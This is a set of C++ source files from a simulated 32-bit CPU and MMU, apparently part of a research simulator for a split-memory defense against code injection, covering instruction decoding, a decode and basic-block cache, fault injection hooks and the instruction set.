                    !(i > 0 && cycle_stop != 0 && stats_->cycles >= cycle_stop);
         ++i) {
      ++out.attempts;
      const u32 pc = regs_.pc;
      const Decoded& d = b.instr[i];
      if (i == 0) {
        hits += d.len - 1;
        stats_->cycles += (d.len - 1) * cost_->tlb_hit;
      } else {
        hits += d.len;
        stats_->cycles += cost_->cycles_per_instr + d.len * cost_->tlb_hit;
      }
      SM_TRACE(trace_, charge(trace::Category::kTlbHit,
                              (d.len - 1) * cost_->tlb_hit, pc));
      if (may_fault(d.op)) snapshot = regs_;  // only faultable ops roll back
      auto trap = execute(d);
      ++retired;
      if (trap) {  // kSyscall: pc already advanced, kernel services it
        out.trap = trap;
        flush();
        return out;
      }
      // Same-page SMC guard: a store that reached this block's own code
      // frame makes the remaining decodes stale. Kill the block and exit;
      // the next entry probe re-records from the current bytes — which is
      // exactly where the per-instruction engine's decode-cache generation
      // check would have picked up.
      if (i + 1 < b.count && writes_memory(d.op) &&
          pm.generation(b.pfn) != b.gen) {
        ++stats_->block_cache_invalidations;
        SM_TRACE(trace_,
                 record(trace::EventKind::kBlockInvalidate, regs_.pc, b.pfn));
        b.pa = BlockCache::kInvalidPa;
        break;
      }
    }
  } catch (const TrapException& e) {
    regs_ = snapshot;  // per-instruction restart semantics, unchanged
    out.trap = e.trap();
    flush();
    return out;
  }
  flush();
  return out;
}

Cpu::BlockStep Cpu::record_block(BlockCache::Block& b, u64 entry_pa,
                                 u64 entry_gen, u64 budget, u64 cycle_stop) {
  // Record while executing: every instruction below runs through the
  // normal per-instruction machinery (exact billing, decode-cache
  // population, rollback-on-fault), so a recording pass is observationally
  // identical to the interpreter — the block is a pure byproduct.
  BlockStep out;
  PhysicalMemory& pm = mmu_->phys();
  const u32 entry_pfn = static_cast<u32>(entry_pa >> kPageShift);
  const u32 entry_vpn = vpn_of(regs_.pc);
  const u32 entry_pc = regs_.pc;
  Decoded recorded[BlockCache::kMaxInstructions];
  u32 count = 0;
  bool complete = false;

  while (out.attempts < budget &&
         !(out.attempts > 0 && cycle_stop != 0 &&
           stats_->cycles >= cycle_stop)) {
    ++out.attempts;
    const Regs snapshot = regs_;
    const u32 pc = regs_.pc;
    Decoded d;
    std::optional<Trap> trap;
    try {
      if (out.attempts == 1) {
        // step_block already billed the issue cycle and translated pc.
        d = fetch_decode_at(entry_pa);
      } else {
        stats_->cycles += cost_->cycles_per_instr;
        d = fetch_decode();
      }
      trap = execute(d);
      ++stats_->instructions;
    } catch (const TrapException& e) {
      regs_ = snapshot;
      out.trap = e.trap();
      // A faulting tail is not recorded: the kernel fixes the cause and
      // the retry re-records from whatever pc resumes at.
      return out;
    }
    // A straddling instruction's tail bytes live in a frame the entry
    // generation cannot cover — never record it; end the block before it.
    const bool straddles = page_offset(pc) + d.len > kPageSize;
    if (!straddles) recorded[count++] = d;
    if (trap) out.trap = trap;  // kSyscall completed; kernel services it
    if (trap || is_terminator(d.op) || straddles) {
      complete = true;
      break;
    }
    // A store that rewrote the entry frame: everything recorded so far is
    // keyed to a dead generation — abandon the recording.
    if (writes_memory(d.op) && pm.generation(entry_pfn) != entry_gen) break;
    if (count == BlockCache::kMaxInstructions) {
      complete = true;
      break;
    }
    if (vpn_of(regs_.pc) != entry_vpn) {  // fell through the page edge
      complete = true;
      break;
    }
  }

  // Only complete blocks are worth caching; a budget-truncated prefix
  // would re-record longer on the next full-budget visit anyway.
  if (complete && count > 0) {
    b.pa = entry_pa;
    b.gen = entry_gen;
    b.pfn = entry_pfn;
    b.count = count;
    for (u32 i = 0; i < count; ++i) b.instr[i] = recorded[i];
    SM_TRACE(trace_, record(trace::EventKind::kBlockBuild, entry_pc, count));
  }
  return out;
}

std::optional<Trap> Cpu::execute(const Decoded& d) {
  Regs& R = regs_;
  u32* r = R.r;
  const u32 next = R.pc + d.len;
  auto set_cmp_flags = [&](u32 a, u32 b) {
    R.flags &= ~(kFlagZ | kFlagS | kFlagC);
    if (a == b) R.flags |= kFlagZ;
    if (static_cast<i32>(a) < static_cast<i32>(b)) R.flags |= kFlagS;
    if (a < b) R.flags |= kFlagC;
  };

  switch (d.op) {
    case Op::kMovi:
      r[d.ra] = d.imm;
      break;
    case Op::kMov:
      r[d.ra] = r[d.rb];
      break;
    case Op::kLoad:
      r[d.ra] = mmu_->read32(r[d.rb] + d.imm);
      break;
    case Op::kStore:
      mmu_->write32(r[d.ra] + d.imm, r[d.rb]);
      break;
    case Op::kLoadb:
      r[d.ra] = mmu_->read8(r[d.rb] + d.imm);
      break;
    case Op::kStoreb:
      mmu_->write8(r[d.ra] + d.imm, static_cast<u8>(r[d.rb]));
      break;
    case Op::kAdd:
      r[d.ra] += r[d.rb];
      break;
    case Op::kSub:
      r[d.ra] -= r[d.rb];
      break;
    case Op::kMul:
      r[d.ra] *= r[d.rb];
      break;
    case Op::kDiv:
      if (r[d.rb] == 0) {
        throw TrapException(Trap::simple(TrapKind::kDivideByZero));
      }
      r[d.ra] /= r[d.rb];
      break;
    case Op::kModu:
      if (r[d.rb] == 0) {
        throw TrapException(Trap::simple(TrapKind::kDivideByZero));
      }
      r[d.ra] %= r[d.rb];
      break;
    case Op::kAnd:
      r[d.ra] &= r[d.rb];
      break;
    case Op::kOr:
      r[d.ra] |= r[d.rb];
      break;
    case Op::kXor:
      r[d.ra] ^= r[d.rb];
      break;
    case Op::kShl:
      r[d.ra] <<= (r[d.rb] & 31);
      break;
    case Op::kShr:
      r[d.ra] >>= (r[d.rb] & 31);
      break;
    case Op::kNot:
      r[d.ra] = ~r[d.ra];
      break;
    case Op::kAddi:
      r[d.ra] += d.imm;
      break;
    case Op::kCmp:
      set_cmp_flags(r[d.ra], r[d.rb]);
      break;
    case Op::kCmpi:
      set_cmp_flags(r[d.ra], d.imm);
      break;
    case Op::kJmp:
      R.pc = d.imm;
      return std::nullopt;
    case Op::kJz:
      R.pc = (R.flags & kFlagZ) ? d.imm : next;
      return std::nullopt;
    case Op::kJnz:
      R.pc = (R.flags & kFlagZ) ? next : d.imm;
      return std::nullopt;
    case Op::kJlt:
      R.pc = (R.flags & kFlagS) ? d.imm : next;
      return std::nullopt;
    case Op::kJge:
      R.pc = (R.flags & kFlagS) ? next : d.imm;
      return std::nullopt;
    case Op::kJb:
      R.pc = (R.flags & kFlagC) ? d.imm : next;
      return std::nullopt;
    case Op::kJae:
      R.pc = (R.flags & kFlagC) ? next : d.imm;
      return std::nullopt;
    case Op::kJmpr:
      R.pc = r[d.ra];
      return std::nullopt;
    case Op::kCall:
      push(next);
      R.pc = d.imm;
      return std::nullopt;
    case Op::kCallr:
      push(next);
      R.pc = r[d.ra];
      return std::nullopt;
    case Op::kRet:
      R.pc = pop();
      return std::nullopt;
    case Op::kPush:
      push(r[d.ra]);
      break;
    case Op::kPop:
      r[d.ra] = pop();
      break;
    case Op::kSyscall:
      R.pc = next;
      return Trap::simple(TrapKind::kSyscall);
    case Op::kNop:
      break;
  }
  R.pc = next;
  return std::nullopt;
}

}  // namespace sm::arch
