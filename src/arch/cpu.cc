#include "arch/cpu.h"

namespace sm::arch {

void Cpu::check_reg(u8 r) const {
  if (r >= kNumRegs) {
    throw TrapException(Trap::simple(TrapKind::kGeneralProtection));
  }
}

Decoded Cpu::fetch_decode() {
  const u32 pc = regs_.pc;
  // One real translation for the first byte: bills the I-TLB hit/miss (and
  // any walk or fault) exactly as the byte-at-a-time path's first fetch
  // would, and yields the physical key for the decode cache.
  const u64 pa = mmu_->translate(pc, Access::kFetch);
  PhysicalMemory& pm = mmu_->phys();
  const u64 gen = pm.generation(static_cast<u32>(pa >> kPageShift));

  DecodeCache::Entry* slot = dcache_enabled_ ? &dcache_.slot(pa) : nullptr;
  if (slot != nullptr && slot->pa == pa) {
    if (slot->gen == gen) {
      // Hit. Only non-straddling instructions are cached, so in the slow
      // path bytes 1..len-1 would have been guaranteed I-TLB hits on the
      // very entry byte 0 just used (inserted on its miss, or already
      // present). Bill those hits wholesale; the LRU outcome is identical
      // because consecutive touches of one entry collapse.
      ++stats_->decode_cache_hits;
      const u32 extra = slot->d.len - 1;
      stats_->itlb_hits += extra;
      stats_->cycles += extra * cost_->tlb_hit;
      SM_TRACE(trace_,
               charge(trace::Category::kTlbHit, extra * cost_->tlb_hit, pc));
      return slot->d;
    }
    // Same physical location, stale frame generation: the code frame was
    // rewritten (self-modifying code, exec, forensic injection, frame
    // reuse) — re-decode from the current bytes.
    ++stats_->decode_cache_invalidations;
  }
  if (slot != nullptr) ++stats_->decode_cache_misses;

  const u8 opcode = pm.read8(pa);
  const u32 len = instr_length(opcode);
  if (len == 0) {
    throw TrapException(Trap::invalid_opcode(opcode));
  }
  u8 bytes[kMaxInstrLength] = {opcode};
  for (u32 i = 1; i < len; ++i) bytes[i] = mmu_->fetch8(pc + i);

  Decoded d;
  d.op = static_cast<Op>(opcode);
  d.len = len;
  auto imm_at = [&](u32 off) {
    return static_cast<u32>(bytes[off]) |
           (static_cast<u32>(bytes[off + 1]) << 8) |
           (static_cast<u32>(bytes[off + 2]) << 16) |
           (static_cast<u32>(bytes[off + 3]) << 24);
  };
  switch (d.op) {
    case Op::kMovi:
    case Op::kAddi:
    case Op::kCmpi:
      d.ra = bytes[1];
      d.imm = imm_at(2);
      break;
    case Op::kMov:
    case Op::kAdd:
    case Op::kSub:
    case Op::kMul:
    case Op::kDiv:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kShl:
    case Op::kShr:
    case Op::kCmp:
    case Op::kModu:
      d.ra = bytes[1];
      d.rb = bytes[2];
      break;
    case Op::kLoad:
    case Op::kStore:
    case Op::kLoadb:
    case Op::kStoreb:
      d.ra = bytes[1];
      d.rb = bytes[2];
      d.imm = imm_at(3);
      break;
    case Op::kJmp:
    case Op::kJz:
    case Op::kJnz:
    case Op::kJlt:
    case Op::kJge:
    case Op::kJb:
    case Op::kJae:
    case Op::kCall:
      d.imm = imm_at(1);
      break;
    case Op::kJmpr:
    case Op::kCallr:
    case Op::kPush:
    case Op::kPop:
    case Op::kNot:
      d.ra = bytes[1];
      break;
    case Op::kRet:
    case Op::kSyscall:
    case Op::kNop:
      break;
  }
  if (d.len >= 2 && d.op != Op::kJmp && d.op != Op::kJz && d.op != Op::kJnz &&
      d.op != Op::kJlt && d.op != Op::kJge && d.op != Op::kJb &&
      d.op != Op::kJae && d.op != Op::kCall) {
    check_reg(d.ra);
  }
  switch (d.op) {
    case Op::kMov:
    case Op::kAdd:
    case Op::kSub:
    case Op::kMul:
    case Op::kDiv:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kShl:
    case Op::kShr:
    case Op::kCmp:
    case Op::kModu:
    case Op::kLoad:
    case Op::kStore:
    case Op::kLoadb:
    case Op::kStoreb:
      check_reg(d.rb);
      break;
    default:
      break;
  }
  // Memoize fully validated decodes whose bytes live in one frame; a
  // straddling tail sits in a second frame the entry's generation key
  // cannot cover, so those always take the slow path above.
  if (slot != nullptr && page_offset(pc) + len <= kPageSize) {
    slot->pa = pa;
    slot->gen = gen;
    slot->d = d;
  }
  return d;
}

void Cpu::push(u32 v) {
  const u32 nsp = regs_.sp() - 4;
  mmu_->write32(nsp, v);
  regs_.sp() = nsp;
}

u32 Cpu::pop() {
  const u32 v = mmu_->read32(regs_.sp());
  regs_.sp() += 4;
  return v;
}

std::optional<Trap> Cpu::step() {
  const Regs snapshot = regs_;
  const bool tf_at_start = regs_.tf();
  stats_->cycles += cost_->cycles_per_instr;
  // Deliberately not mirrored to the trace profiler: a per-step mirror
  // would put a trace branch on the hottest path in the simulator.
  // TraceSink::summary() reconciles these cycles as the exec residual.
  try {
    const Decoded d = fetch_decode();
    auto trap = execute(d);
    ++stats_->instructions;
    if (trap) return trap;  // kSyscall: pc already advanced
    if (tf_at_start) {
      ++stats_->single_steps;
      return Trap::simple(TrapKind::kDebugStep);
    }
    return std::nullopt;
  } catch (const TrapException& e) {
    regs_ = snapshot;  // faults restore architectural state for restart
    return e.trap();
  }
}

std::optional<Trap> Cpu::execute(const Decoded& d) {
  Regs& R = regs_;
  u32* r = R.r;
  const u32 next = R.pc + d.len;
  auto set_cmp_flags = [&](u32 a, u32 b) {
    R.flags &= ~(kFlagZ | kFlagS | kFlagC);
    if (a == b) R.flags |= kFlagZ;
    if (static_cast<i32>(a) < static_cast<i32>(b)) R.flags |= kFlagS;
    if (a < b) R.flags |= kFlagC;
  };

  switch (d.op) {
    case Op::kMovi:
      r[d.ra] = d.imm;
      break;
    case Op::kMov:
      r[d.ra] = r[d.rb];
      break;
    case Op::kLoad:
      r[d.ra] = mmu_->read32(r[d.rb] + d.imm);
      break;
    case Op::kStore:
      mmu_->write32(r[d.ra] + d.imm, r[d.rb]);
      break;
    case Op::kLoadb:
      r[d.ra] = mmu_->read8(r[d.rb] + d.imm);
      break;
    case Op::kStoreb:
      mmu_->write8(r[d.ra] + d.imm, static_cast<u8>(r[d.rb]));
      break;
    case Op::kAdd:
      r[d.ra] += r[d.rb];
      break;
    case Op::kSub:
      r[d.ra] -= r[d.rb];
      break;
    case Op::kMul:
      r[d.ra] *= r[d.rb];
      break;
    case Op::kDiv:
      if (r[d.rb] == 0) {
        throw TrapException(Trap::simple(TrapKind::kDivideByZero));
      }
      r[d.ra] /= r[d.rb];
      break;
    case Op::kModu:
      if (r[d.rb] == 0) {
        throw TrapException(Trap::simple(TrapKind::kDivideByZero));
      }
      r[d.ra] %= r[d.rb];
      break;
    case Op::kAnd:
      r[d.ra] &= r[d.rb];
      break;
    case Op::kOr:
      r[d.ra] |= r[d.rb];
      break;
    case Op::kXor:
      r[d.ra] ^= r[d.rb];
      break;
    case Op::kShl:
      r[d.ra] <<= (r[d.rb] & 31);
      break;
    case Op::kShr:
      r[d.ra] >>= (r[d.rb] & 31);
      break;
    case Op::kNot:
      r[d.ra] = ~r[d.ra];
      break;
    case Op::kAddi:
      r[d.ra] += d.imm;
      break;
    case Op::kCmp:
      set_cmp_flags(r[d.ra], r[d.rb]);
      break;
    case Op::kCmpi:
      set_cmp_flags(r[d.ra], d.imm);
      break;
    case Op::kJmp:
      R.pc = d.imm;
      return std::nullopt;
    case Op::kJz:
      R.pc = (R.flags & kFlagZ) ? d.imm : next;
      return std::nullopt;
    case Op::kJnz:
      R.pc = (R.flags & kFlagZ) ? next : d.imm;
      return std::nullopt;
    case Op::kJlt:
      R.pc = (R.flags & kFlagS) ? d.imm : next;
      return std::nullopt;
    case Op::kJge:
      R.pc = (R.flags & kFlagS) ? next : d.imm;
      return std::nullopt;
    case Op::kJb:
      R.pc = (R.flags & kFlagC) ? d.imm : next;
      return std::nullopt;
    case Op::kJae:
      R.pc = (R.flags & kFlagC) ? next : d.imm;
      return std::nullopt;
    case Op::kJmpr:
      R.pc = r[d.ra];
      return std::nullopt;
    case Op::kCall:
      push(next);
      R.pc = d.imm;
      return std::nullopt;
    case Op::kCallr:
      push(next);
      R.pc = r[d.ra];
      return std::nullopt;
    case Op::kRet:
      R.pc = pop();
      return std::nullopt;
    case Op::kPush:
      push(r[d.ra]);
      break;
    case Op::kPop:
      r[d.ra] = pop();
      break;
    case Op::kSyscall:
      R.pc = next;
      return Trap::simple(TrapKind::kSyscall);
    case Op::kNop:
      break;
  }
  R.pc = next;
  return std::nullopt;
}

}  // namespace sm::arch
