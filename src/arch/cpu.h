// The simulated CPU core.
//
// Cpu::step() executes exactly one user-mode instruction against the MMU.
// On success it returns std::nullopt (or a kSyscall/kDebugStep trap that
// the kernel must service); on a fault (page fault, #UD, #DE, #GP) it
// returns the trap with ALL architectural state rolled back, so the kernel
// can fix the cause and simply resume — the restart semantics Algorithm 1
// depends on ("return; /* restart the faulting instruction */").
//
// Trap-flag semantics follow x86: if TF is set when an instruction begins
// and the instruction completes (does not fault), a kDebugStep trap is
// reported after it. A syscall that completes under TF reports kSyscall;
// the kernel checks TF itself afterwards (see kernel/kernel.cc).
#pragma once

#include <optional>

#include "arch/block_cache.h"
#include "arch/decode_cache.h"
#include "arch/isa.h"
#include "arch/mmu.h"
#include "arch/trap.h"
#include "arch/types.h"
#include "metrics/cost_model.h"
#include "metrics/stats.h"

namespace sm::arch {

struct Regs {
  u32 r[kNumRegs] = {};
  u32 pc = 0;
  u32 flags = 0;

  u32& sp() { return r[kRegSp]; }
  u32& fp() { return r[kRegFp]; }
  bool tf() const { return flags & kFlagTrap; }
  void set_tf(bool on) {
    if (on) {
      flags |= kFlagTrap;
    } else {
      flags &= ~kFlagTrap;
    }
  }
};

class Cpu {
 public:
  Cpu(Mmu& mmu, metrics::Stats& stats, const metrics::CostModel& cost)
      : mmu_(&mmu), stats_(&stats), cost_(&cost) {}

  Regs& regs() { return regs_; }
  const Regs& regs() const { return regs_; }

  // Executes one instruction. See the file comment for the contract.
  std::optional<Trap> step();

  // Result of a basic-block execution attempt: how many instruction
  // attempts it consumed (successes plus at most one trailing fault — the
  // count the kernel's step budget and timeslice advance by, exactly as if
  // step() had been called that many times) and the trap that ended it, if
  // any. attempts >= 1 always, except when a cycle bound was already
  // reached on entry (then 0, and the caller's own bound check ends its
  // dispatch loop).
  struct BlockStep {
    u64 attempts = 0;
    std::optional<Trap> trap;
  };

  // Executes up to max_attempts (>= 1) instructions through the basic-
  // block engine: probe the block cache at the current PC's physical
  // address, run the cached block if its guards pass, otherwise record a
  // new block by executing per-instruction. Each executed instruction
  // keeps step()'s exact contract (billing, rollback-on-fault, restart
  // semantics); the caller must NOT use this while the trap flag is set —
  // TF windows are per-instruction by definition and take the step() path.
  // A non-zero cycle_stop additionally ends the dispatch at the first
  // instruction boundary where the billed cycle clock has reached it —
  // the same boundary a per-instruction caller checking the clock between
  // step() calls would stop at, which is what keeps the billing-identity
  // contract alive for cycle-bounded runs (Kernel::run's cycle_stop).
  BlockStep step_block(u64 max_attempts, u64 cycle_stop = 0);

  // The physically-keyed decoded-instruction cache (test/bench access).
  DecodeCache& decode_cache() { return dcache_; }

  // The basic-block cache layered above it (test/bench access).
  BlockCache& block_cache() { return bcache_; }

  // Host-side shortcut toggle, mirroring Mmu::set_data_memo_enabled: off
  // forces every fetch down the byte-at-a-time decode path, which the
  // billing-identity contract says must produce identical simulated stats.
  // The differential-fuzz oracle flips this to prove it on random programs.
  void set_decode_cache_enabled(bool on) { dcache_enabled_ = on; }
  bool decode_cache_enabled() const { return dcache_enabled_; }

  // Host-side block-engine toggle, same contract one level up: off forces
  // the kernel loop down the per-instruction step() path and must change
  // no simulated stat. The fuzz oracle's /no-dbt leg flips this.
  void set_block_engine_enabled(bool on) { block_enabled_ = on; }
  bool block_engine_enabled() const { return block_enabled_; }

  // Observability (src/trace): null unless the kernel enabled tracing.
  void set_trace(trace::TraceSink* sink) { trace_ = sink; }

 private:
  // Fetches the instruction bytes at pc through the I-TLB path, consulting
  // the decode cache first. Simulated costs are billed identically on hit
  // and miss. Throws TrapException on fetch faults or #UD.
  Decoded fetch_decode();
  // The tail of fetch_decode() once the entry byte's translation is known:
  // decode-cache probe, byte-at-a-time decode, validation, memoization.
  Decoded fetch_decode_at(u64 pa);
  std::optional<Trap> execute(const Decoded& d);

  BlockStep run_block(BlockCache::Block& b, u64 budget, u64 cycle_stop);
  BlockStep record_block(BlockCache::Block& b, u64 entry_pa, u64 entry_gen,
                         u64 budget, u64 cycle_stop);

  u32 pop();
  void push(u32 v);
  void check_reg(u8 r) const;

  Mmu* mmu_;
  metrics::Stats* stats_;
  const metrics::CostModel* cost_;
  trace::TraceSink* trace_ = nullptr;
  Regs regs_;
  DecodeCache dcache_;
  BlockCache bcache_;
  bool dcache_enabled_ = true;
  bool block_enabled_ = true;
};

}  // namespace sm::arch
