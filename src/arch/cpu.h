// The simulated CPU core.
//
// Cpu::step() executes exactly one user-mode instruction against the MMU.
// On success it returns std::nullopt (or a kSyscall/kDebugStep trap that
// the kernel must service); on a fault (page fault, #UD, #DE, #GP) it
// returns the trap with ALL architectural state rolled back, so the kernel
// can fix the cause and simply resume — the restart semantics Algorithm 1
// depends on ("return; /* restart the faulting instruction */").
//
// Trap-flag semantics follow x86: if TF is set when an instruction begins
// and the instruction completes (does not fault), a kDebugStep trap is
// reported after it. A syscall that completes under TF reports kSyscall;
// the kernel checks TF itself afterwards (see kernel/kernel.cc).
#pragma once

#include <optional>

#include "arch/decode_cache.h"
#include "arch/isa.h"
#include "arch/mmu.h"
#include "arch/trap.h"
#include "arch/types.h"
#include "metrics/cost_model.h"
#include "metrics/stats.h"

namespace sm::arch {

struct Regs {
  u32 r[kNumRegs] = {};
  u32 pc = 0;
  u32 flags = 0;

  u32& sp() { return r[kRegSp]; }
  u32& fp() { return r[kRegFp]; }
  bool tf() const { return flags & kFlagTrap; }
  void set_tf(bool on) {
    if (on) {
      flags |= kFlagTrap;
    } else {
      flags &= ~kFlagTrap;
    }
  }
};

class Cpu {
 public:
  Cpu(Mmu& mmu, metrics::Stats& stats, const metrics::CostModel& cost)
      : mmu_(&mmu), stats_(&stats), cost_(&cost) {}

  Regs& regs() { return regs_; }
  const Regs& regs() const { return regs_; }

  // Executes one instruction. See the file comment for the contract.
  std::optional<Trap> step();

  // The physically-keyed decoded-instruction cache (test/bench access).
  DecodeCache& decode_cache() { return dcache_; }

  // Host-side shortcut toggle, mirroring Mmu::set_data_memo_enabled: off
  // forces every fetch down the byte-at-a-time decode path, which the
  // billing-identity contract says must produce identical simulated stats.
  // The differential-fuzz oracle flips this to prove it on random programs.
  void set_decode_cache_enabled(bool on) { dcache_enabled_ = on; }
  bool decode_cache_enabled() const { return dcache_enabled_; }

  // Observability (src/trace): null unless the kernel enabled tracing.
  void set_trace(trace::TraceSink* sink) { trace_ = sink; }

 private:
  // Fetches the instruction bytes at pc through the I-TLB path, consulting
  // the decode cache first. Simulated costs are billed identically on hit
  // and miss. Throws TrapException on fetch faults or #UD.
  Decoded fetch_decode();
  std::optional<Trap> execute(const Decoded& d);

  u32 pop();
  void push(u32 v);
  void check_reg(u8 r) const;

  Mmu* mmu_;
  metrics::Stats* stats_;
  const metrics::CostModel* cost_;
  trace::TraceSink* trace_ = nullptr;
  Regs regs_;
  DecodeCache dcache_;
  bool dcache_enabled_ = true;
};

}  // namespace sm::arch
