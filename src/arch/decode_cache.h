// Physically-keyed decoded-instruction cache for the simulator hot loop.
//
// The paper's Harvard guarantee (§4.1–4.2) makes fetched bytes unusually
// cacheable: instruction fetches are routed through the I-TLB to a stable
// code frame that attacker stores can never reach, so a decode performed
// once for a given *physical* location stays valid until that frame's
// bytes actually change. The cache is therefore keyed by the physical
// address of the instruction's first byte — never the virtual address —
// which gives three properties for free:
//   - data-frame stores on a split page cannot alias a cached decode (the
//     code frame is a different physical frame, so a different key);
//   - observe-mode unsplitting and Algorithm-1 PTE repoints need no flush:
//     the next fetch translates to a different physical address and simply
//     misses;
//   - processes sharing a text frame (fork, shared libraries) share its
//     decodes.
// Coherence with writes that DO reach the code frame (self-modifying code
// on an unsplit page, kernel loader/exec/dlopen writes, forensics-mode
// shellcode injection, split-engine frame copies) comes from
// PhysicalMemory's per-frame generation counters: an entry remembers the
// generation it decoded under and a mismatch is an invalidation.
//
// Instructions that straddle a page boundary are never cached (their tail
// bytes live in a second frame whose generation the entry key cannot see);
// the CPU falls back to the byte-at-a-time fetch path for them.
//
// This is HOST-side machinery only: the CPU bills simulated TLB/decode
// costs identically on hit and miss, so all simulated-cycle figures are
// unchanged — only host wall-clock improves.
#pragma once

#include <cstddef>
#include <stdexcept>
#include <vector>

#include "arch/isa.h"
#include "arch/types.h"

namespace sm::arch {

// A fully decoded instruction (operands cracked out of the byte stream).
// Produced by Cpu::fetch_decode() and memoized by DecodeCache.
struct Decoded {
  Op op = Op::kNop;
  u8 ra = 0;
  u8 rb = 0;
  u32 imm = 0;
  u32 len = 0;
};

class DecodeCache {
 public:
  static constexpr u32 kDefaultEntries = 4096;
  static constexpr u64 kInvalidPa = ~u64{0};

  struct Entry {
    u64 pa = kInvalidPa;  // physical address of the first instruction byte
    u64 gen = 0;          // PhysicalMemory::generation() of pa's frame
    Decoded d{};
  };

  explicit DecodeCache(u32 num_entries = kDefaultEntries)
      : mask_(num_entries - 1), entries_(num_entries) {
    if (num_entries == 0 || (num_entries & (num_entries - 1)) != 0) {
      throw std::invalid_argument("decode cache size must be a power of two");
    }
  }

  // Direct-mapped slot for a physical address. XORing the frame number in
  // spreads same-offset instructions of different frames across the table,
  // so two hot code pages do not thrash a shared slot.
  Entry& slot(u64 pa) {
    return entries_[static_cast<u32>(pa ^ (pa >> kPageShift)) & mask_];
  }

  void clear() {
    for (Entry& e : entries_) e = Entry{};
  }

  u32 capacity() const { return static_cast<u32>(entries_.size()); }

 private:
  u32 mask_;
  std::vector<Entry> entries_;
};

}  // namespace sm::arch
