// FaultHooks: the arch layer's seam for deterministic fault injection.
//
// The Mmu and PhysicalMemory consult a non-owning FaultHooks pointer at a
// small set of *cold* protocol points (TLB flush, invlpg, frame allocation)
// and let the hook veto or corrupt the operation. The default implementation
// does nothing, so production runs pay one null-checked branch per cold
// event and zero cost on the translate fast path — the hook is deliberately
// NOT consulted inside Mmu::translate.
//
// The concrete implementation lives in src/inject/ (FaultInjector); arch/
// only knows this interface, keeping the dependency arrow pointing the
// right way (inject -> arch, never arch -> inject).
#pragma once

#include "arch/types.h"

namespace sm::arch {

class FaultHooks {
 public:
  virtual ~FaultHooks() = default;

  // A full TLB flush is about to run. Return true to swallow it (simulating
  // a lost IPI / forgotten CR3 reload): the stale entries stay live.
  virtual bool drop_tlb_flush() { return false; }

  // An invlpg of `vaddr` is about to run. Return true to swallow it.
  virtual bool drop_invlpg(u32 vaddr) {
    (void)vaddr;
    return false;
  }

  // A physical frame is about to be allocated. Return true to make the
  // allocation fail as if the free list were empty (transient exhaustion).
  virtual bool fail_frame_alloc() { return false; }
};

}  // namespace sm::arch
