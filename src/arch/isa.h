// Instruction set of the simulated 32-bit machine.
//
// Byte-encoded, little-endian, variable length: [opcode][operands...].
// Register operands are one byte each (0-7); immediates are 32-bit LE.
// NOP is 0x90 so classic x86-style NOP sleds look the same in hex dumps
// and in the paper's forensics screenshots. 0x00 (and every unassigned
// byte) decodes to #UD, so a zero-filled code frame faults on fetch —
// which is what makes break/observe/forensics response modes triggerable.
//
// Registers: r0-r5 general purpose, r6 = frame pointer (FP), r7 = stack
// pointer (SP). Flags are set only by CMP/CMPI: ZF (equal), SF (signed
// less-than), CF (unsigned below). Bit 8 of FLAGS is the x86-style trap
// flag (TF): when set, the CPU raises a debug trap after completing one
// instruction — the hook Algorithm 2 uses to re-restrict a split page.
#pragma once

#include "arch/types.h"

namespace sm::arch {

inline constexpr u32 kNumRegs = 8;
inline constexpr u32 kRegFp = 6;
inline constexpr u32 kRegSp = 7;

// FLAGS bits.
inline constexpr u32 kFlagZ = 1u << 0;
inline constexpr u32 kFlagS = 1u << 1;   // signed less-than from CMP
inline constexpr u32 kFlagC = 1u << 2;   // unsigned below from CMP
inline constexpr u32 kFlagTrap = 1u << 8;  // single-step (TF)

enum class Op : u8 {
  kMovi = 0x01,    // MOVI rd, imm32
  kMov = 0x02,     // MOV rd, rs
  kLoad = 0x03,    // LOAD rd, [rs+imm32]
  kStore = 0x04,   // STORE [rd+imm32], rs
  kLoadb = 0x05,   // LOADB rd, [rs+imm32]  (zero-extends)
  kStoreb = 0x06,  // STOREB [rd+imm32], rs (low byte)

  kAdd = 0x10,
  kSub = 0x11,
  kMul = 0x12,
  kDiv = 0x13,  // unsigned; divisor 0 -> #DE
  kAnd = 0x14,
  kOr = 0x15,
  kXor = 0x16,
  kShl = 0x17,
  kShr = 0x18,
  kAddi = 0x19,  // ADDI rd, imm32
  kCmp = 0x1A,   // CMP ra, rb
  kCmpi = 0x1B,  // CMPI ra, imm32
  kNot = 0x1C,
  kModu = 0x1D,  // unsigned remainder; divisor 0 -> #DE

  kJmp = 0x20,  // absolute
  kJz = 0x21,
  kJnz = 0x22,
  kJlt = 0x23,  // signed <
  kJge = 0x24,  // signed >=
  kJb = 0x25,   // unsigned <
  kJae = 0x26,  // unsigned >=
  kJmpr = 0x27,

  kCall = 0x30,   // push return address, jump
  kCallr = 0x31,  // indirect call through register
  kRet = 0x32,    // pop pc  (the classic hijack point)
  kPush = 0x33,
  kPop = 0x34,

  kSyscall = 0x40,  // number in r0, args in r1..r4, result in r0

  kNop = 0x90,
};

// Length in bytes of the instruction starting with `opcode`, or 0 if the
// opcode is invalid (#UD).
constexpr u32 instr_length(u8 opcode) {
  switch (static_cast<Op>(opcode)) {
    case Op::kMovi:
    case Op::kAddi:
    case Op::kCmpi:
      return 6;
    case Op::kMov:
    case Op::kAdd:
    case Op::kSub:
    case Op::kMul:
    case Op::kDiv:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kShl:
    case Op::kShr:
    case Op::kCmp:
    case Op::kModu:
      return 3;
    case Op::kLoad:
    case Op::kStore:
    case Op::kLoadb:
    case Op::kStoreb:
      return 7;
    case Op::kJmp:
    case Op::kJz:
    case Op::kJnz:
    case Op::kJlt:
    case Op::kJge:
    case Op::kJb:
    case Op::kJae:
    case Op::kCall:
      return 5;
    case Op::kJmpr:
    case Op::kCallr:
    case Op::kPush:
    case Op::kPop:
    case Op::kNot:
      return 2;
    case Op::kRet:
    case Op::kSyscall:
    case Op::kNop:
      return 1;
  }
  return 0;
}

// Maximum encoded instruction length (LOAD/STORE forms).
inline constexpr u32 kMaxInstrLength = 7;

}  // namespace sm::arch
