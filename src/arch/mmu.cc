#include "arch/mmu.h"

namespace sm::arch {

Mmu::Mmu(PhysicalMemory& pm, metrics::Stats& stats,
         const metrics::CostModel& cost, u32 tlb_entries, u32 tlb_ways)
    : pm_(&pm),
      stats_(&stats),
      cost_(&cost),
      itlb_(tlb_entries, tlb_ways),
